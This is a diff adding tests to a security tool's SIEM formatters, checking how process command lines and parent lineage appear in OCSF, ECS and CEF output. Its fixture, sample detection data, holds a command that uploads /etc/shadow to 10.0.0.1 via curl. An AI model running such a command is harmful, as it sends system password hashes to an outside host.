@@ -6,7 +6,7 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { Finding } from '../../schema/finding.js';
 import { DurableQueue } from '../../util/durable-queue.js';
-import { cef, ecs, ocsf, OCSF_REQUIRED } from './formats.js';
+import { cef, commandLine, ecs, ocsf, OCSF_REQUIRED } from './formats.js';
 import { SiemRouter } from './router.js';
 import { format5424, octetFrame } from './syslog-5424.js';
 
@@ -46,7 +46,68 @@ function parseCef(line: string): { header: string[]; ext: Record<string, string>
   return { header, ext };
 }
 
+/** A POSIX shell's word splitting for what commandLine writes: bare words, '…' quotes and "…" quotes, separated by spaces. */
+function shellSplit(line: string): string[] {
+  const words: string[] = [];
+  let cur: string | undefined;
+  for (let i = 0; i < line.length; i++) {
+    const c = line[i]!;
+    if (c === ' ') {
+      if (cur !== undefined) words.push(cur);
+      cur = undefined;
+    } else if (c === "'" || c === '"') {
+      const end = line.indexOf(c, i + 1);
+      cur = (cur ?? '') + line.slice(i + 1, end);
+      i = end;
+    } else cur = (cur ?? '') + c;
+  }
+  if (cur !== undefined) words.push(cur);
+  return words;
+}
+
+/** The finding's process with its command line and two ancestors, the first of them its parent. */
+const withLineage: Finding = {
+  ...base,
+  process: {
+    ...base.process,
+    args: ['curl', '-T', '/etc/shadow', 'http://10.0.0.1/'],
+    ancestors: [
+      { pid: 1, comm: 'bash', exe: '/usr/bin/bash', args: ['bash', '-c', "curl -T /etc/shadow 'http://10.0.0.1/'"] },
+      { pid: 0, comm: 'agent', args: ['agent', '--task', 'sbx'], args_truncated: true },
+    ],
+  },
+};
+
 describe('SIEM formats', () => {
+  it('command lines: quoted as a POSIX shell reads them back, word for word', () => {
+    expect(commandLine(['curl', '-d', 'a b', "it's", ''])).toBe(`curl -d 'a b' 'it'"'"'s' ''`);
+    expect(commandLine(['sh', '-c'], true)).toBe('sh -c …');
+    expect(commandLine(undefined)).toBeUndefined();
+    fc.assert(fc.property(fc.array(fc.string({ minLength: 0, maxLength: 12 }), { minLength: 1, maxLength: 6 }), (args) => {
+      expect(shellSplit(commandLine(args)!)).toEqual(args);
+    }), { numRuns: 500 });
+  });
+
+  it('the process with its command line and parent: OCSF cmd_line, parent_process and lineage; ECS args and parent; CEF cs5 and cs6', () => {
+    const o = ocsf({ finding: withLineage, deliveryId: 'd' }) as { evidences: { process?: Record<string, unknown> }[] };
+    expect(o.evidences[0]!.process).toEqual({
+      pid: 7, name: 'curl', cmd_line: 'curl -T /etc/shadow http://10.0.0.1/', file: { path: '/usr/bin/curl', name: 'curl' },
+      parent_process: { pid: 1, name: 'bash', cmd_line: `bash -c 'curl -T /etc/shadow '"'"'http://10.0.0.1/'"'"''`, file: { path: '/usr/bin/bash', name: 'bash' } },
+      lineage: ['/usr/bin/bash', 'agent'],
+    });
+    const e = ecs({ finding: withLineage, deliveryId: 'd' }) as { process: Record<string, unknown>; chainwatch: { ancestors: unknown } };
+    expect(e.process).toMatchObject({ pid: 7, args: withLineage.process.args, args_count: 4, command_line: 'curl -T /etc/shadow http://10.0.0.1/', parent: { pid: 1, name: 'bash', executable: '/usr/bin/bash', args_count: 3 } });
+    expect(e.chainwatch.ancestors).toEqual(withLineage.process.ancestors);
+    const { ext } = parseCef(cef({ finding: withLineage, deliveryId: 'd' }));
+    expect(ext).toMatchObject({ cs5Label: 'commandLine', cs5: 'curl -T /etc/shadow http://10.0.0.1/', cs6Label: 'parentCommandLine' });
+    expect(shellSplit(ext.cs6!)).toEqual(withLineage.process.ancestors![0]!.args);
+    // a parent the state did not know (the first ancestor is not the ppid): the pid alone, no command line
+    const reparented = { ...withLineage, process: { ...withLineage.process, ppid: 1234 } };
+    expect((ocsf({ finding: reparented, deliveryId: 'd' }) as typeof o).evidences[0]!.process!.parent_process).toEqual({ pid: 1234 });
+    expect(parseCef(cef({ finding: reparented, deliveryId: 'd' })).ext).not.toHaveProperty('cs6');
+    expect(parseCef(cef({ finding: reparented, deliveryId: 'd' })).ext).not.toHaveProperty('cs6Label');
+  });
+
   it('OCSF: the Detection Finding class with its required fields', () => {
     const o = ocsf({ finding: base, deliveryId: 'd1' });
     for (const k of OCSF_REQUIRED) expect(o).toHaveProperty(k);
